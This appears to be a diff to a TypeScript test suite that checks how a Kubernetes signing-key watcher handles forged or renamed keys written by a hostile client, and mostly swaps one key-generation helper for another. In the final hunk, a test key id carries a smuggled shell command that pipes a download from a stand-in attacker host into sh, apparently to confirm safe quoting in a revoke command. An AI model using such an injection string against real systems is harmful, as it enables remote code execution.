@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
-import { generateSigningKey, type SigningKey } from '../../../sandbox/kubernetes/tokens/signing-keys.ts'
+import { sharedSigningKey, type SigningKey } from '../../../sandbox/kubernetes/tokens/signing-keys.ts'
 import { digestOf } from '../../../src/publish/key-state.ts'
 import { startTestWatch, type TestWatch } from './test-watch.ts'
 
@@ -21,7 +21,7 @@ suite('a client that may write the ConfigMap', () => {
 
   test('cannot have its own key published, before the first round or after it', async (t) => {
     const watch = await startTestWatch(t)
-    const attacker = await generateSigningKey()
+    const attacker = await sharedSigningKey('attacker')
     forge(watch, entryOf(attacker))
     const state = await watch.runRound()
     const own = sorted(watch.sandbox.cluster.keys.current)
@@ -31,7 +31,7 @@ suite('a client that may write the ConfigMap', () => {
       state.status.alarms[0]?.seen ?? '',
       new RegExp(`^key "${attacker.kid}" is recorded in the ConfigMap, but neither`),
     )
-    forge(watch, { ...watch.keyEntries(), ...entryOf(await generateSigningKey()) })
+    forge(watch, { ...watch.keyEntries(), ...entryOf(await sharedSigningKey('another')) })
     await watch.runRound(3)
     assert.deepEqual(watch.published(), own)
   })
@@ -49,7 +49,7 @@ suite('a client that may write the ConfigMap', () => {
     const removals = {
       absent: {},
       damaged: { [name]: '{}' },
-      renamed: { [name]: JSON.stringify({ kid: leaked.kid, key: jwkOf(await generateSigningKey()) }) },
+      renamed: { [name]: JSON.stringify({ kid: leaked.kid, key: jwkOf(await sharedSigningKey('another')) }) },
     }
     for (const [what, entries] of Object.entries(removals)) {
       forge(watch, { ...Object.fromEntries(Object.entries(before).filter(([one]) => one !== name)), ...entries })
@@ -89,7 +89,7 @@ suite('a client that may write the ConfigMap', () => {
     await watch.runRound()
     const own = watch.keyEntries()
     for (let times = 0; times < 3; times++) {
-      forge(watch, { ...own, ...entryOf(await generateSigningKey()) })
+      forge(watch, { ...own, ...entryOf(await sharedSigningKey('another')) })
       await watch.runRound()
     }
     assert.equal((await watch.runRound()).keyState?.keys.length, 2)
@@ -100,10 +100,10 @@ suite('a client that may write the ConfigMap', () => {
 
   test('has few Events written of many keys, and other alarms are still reported', async (t) => {
     const watch = await startTestWatch(t)
-    const forged = await generateSigningKey()
+    const forged = await sharedSigningKey('forged')
     const entries = Array.from({ length: 50 }, (_, at) => entryOf({ ...forged, kid: `forged-${at}` }))
     forge(watch, Object.fromEntries(entries.flatMap(Object.entries<string>)))
-    watch.sandbox.cluster.keys.signWith(await generateSigningKey())
+    watch.sandbox.cluster.keys.signWith(await sharedSigningKey('another'))
     const { status } = await watch.runRound()
     assert.equal(status.alarms.length, 51)
     const sentence = 'warn the publication of the issuer needs attention '
@@ -143,7 +143,7 @@ suite('a client that may write the bucket', () => {
   test('a public key whose name is a command is one word in the command that revokes it', async (t) => {
     const watch = await startTestWatch(t)
     await watch.runRound()
-    const { publicKey } = await generateSigningKey()
+    const { publicKey } = await sharedSigningKey('another')
     const kid = "x; curl evil.example|sh; '$(id)'\n"
     const object = watch.sandbox.gcp.store.find('example-cluster', 'openid/v1/jwks')
     const { keys }: { keys: object[] } = JSON.parse(object?.bytes.toString() ?? '')
